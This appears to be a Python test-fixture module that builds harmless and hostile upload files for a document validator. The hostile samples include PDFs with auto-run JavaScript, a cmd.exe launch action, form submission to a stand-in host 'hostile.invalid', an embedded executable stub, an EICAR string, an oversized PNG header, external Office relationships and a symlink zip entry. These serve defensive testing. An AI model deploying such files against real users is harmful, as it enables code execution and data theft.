"""Files to hand in: sound ones of each kind, and what people who mean harm make of them."""

import io
import zipfile
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
EXCEL_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def pdf(words="Avis de la firme", *, change=None, **encrypt):
    """Return a PDF of one page that says some words, changed by `change(writer, page)` before it is written."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=300, height=200)
    font = DictionaryObject(
        {NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
         NameObject("/BaseFont"): NameObject("/Helvetica")}
    )  # fmt: skip
    page[NameObject("/Resources")] = DictionaryObject(
        {NameObject("/Font"): DictionaryObject({NameObject("/F1"): writer._add_object(font)})}
    )
    shown = DecodedStreamObject()
    shown.set_data(f"BT /F1 12 Tf 20 100 Td ({words}) Tj ET".encode("latin-1"))
    page[NameObject("/Contents")] = writer._add_object(shown)
    if change:
        change(writer, page)
    if encrypt:
        writer.encrypt(**encrypt)
    return written(writer)


def written(writer):
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def action(**fields):
    return DictionaryObject(
        {NameObject(f"/{name}"): NameObject(value) if value.startswith("/") else TextStringObject(value)
         for name, value in fields.items()}
    )  # fmt: skip


def annotated(**fields):
    """Return a change that puts an annotation on the page."""

    def change(writer, page):
        box = ArrayObject([NumberObject(each) for each in (0, 0, 10, 10)])
        note = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Rect"): box})
        for name, value in fields.items():
            note[NameObject(f"/{name}")] = NameObject(value) if isinstance(value, str) else value
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(note)])

    return change


def opening_by(found):
    """Return a change that does something as the file is opened."""
    return lambda writer, _page: writer.root_object.update({NameObject("/OpenAction"): writer._add_object(found)})


def in_the_root(name, found):
    return lambda writer, _page: writer.root_object.update({NameObject(name): found})


def elsewhere(writer, page):
    """Let the page's content lie in another file."""
    stream = DecodedStreamObject()
    stream.set_data(b"")
    stream[NameObject("/F")] = TextStringObject("//hostile.invalid/page")
    page[NameObject("/Contents")] = writer._add_object(stream)


#: What a PDF may do besides being read, and how it is told to.
ACTIVE_PDFS = {
    "script as it opens": opening_by(action(S="/JavaScript", JS="app.alert(1)")),
    "script by name": lambda writer, _page: in_the_root(
        "/Names", DictionaryObject({NameObject("/JavaScript"): writer._add_object(action(S="/JavaScript", JS="1"))})
    )(writer, _page),
    "launches a program": opening_by(action(S="/Launch", F="cmd.exe")),
    "calls an address as it opens": opening_by(action(S="/URI", URI="http://hostile.invalid/")),
    "opens another file": annotated(Subtype="/Link", A=action(S="/GoToR", F="other.pdf")),
    "sends its fields": annotated(Subtype="/Widget", A=action(S="/SubmitForm", F="http://hostile.invalid/")),
    "takes in data": annotated(Subtype="/Widget", A=action(S="/ImportData", F="data.fdf")),
    "holds a file": lambda writer, _page: writer.add_attachment("a.exe", b"MZ"),
    "holds a file in a note": annotated(Subtype="/FileAttachment"),
    "plays a film": annotated(Subtype="/Screen"),
    "is a form of the other kind": in_the_root("/AcroForm", DictionaryObject({NameObject("/XFA"): ArrayObject()})),
    "is a portfolio": in_the_root("/Collection", DictionaryObject()),
    "lies in part elsewhere": elsewhere,
}


def linked(writer, _page):
    """Put a plain link on the page, as word processors do."""
    writer.add_annotation(0, Link(rect=(0, 0, 10, 10), url="https://exemple.test/"))


def image(kind="PNG", size=(20, 10)):
    out = io.BytesIO()
    Image.new("RGB", size, "white").save(out, kind)
    return out.getvalue()


def huge_image(side=50_000):
    """Return a PNG that says it has side × side points, and is a few bytes long."""
    small = bytearray(image())
    header = b"IHDR" + side.to_bytes(4) * 2 + bytes([8, 2, 0, 0, 0])
    small[12:33] = header + zlib.crc32(header).to_bytes(4)
    return bytes(small)


def office(parts=None, *, main=WORD_MAIN, method=zipfile.ZIP_DEFLATED):
    """Return a Word file (or an Excel one), with these parts besides those it must have."""
    types = f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/x" ContentType="{main}"/></Types>'
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("word/document.xml", "<w><t>Avis</t></w>")
        for name, content in (parts or {}).items():
            archive.writestr(name, content)
    return out.getvalue()


def relation(kind, target="http://hostile.invalid/x", mode="External"):
    start = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return f'<Relationships><Relationship Id="r1" Type="{start}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'


def link_to_etc():
    entry = zipfile.ZipInfo("word/link")
    entry.external_attr = 0o120777 << 16
    return entry


def raw_archive(*entries):
    """Return an archive of exactly these parts, whatever they are called."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return out.getvalue()


def with_part(name, content=b"x"):
    types = zipfile.ZipFile(io.BytesIO(office())).read("[Content_Types].xml")
    return raw_archive(("[Content_Types].xml", types), ("word/document.xml", b"<w/>"), (name, content))
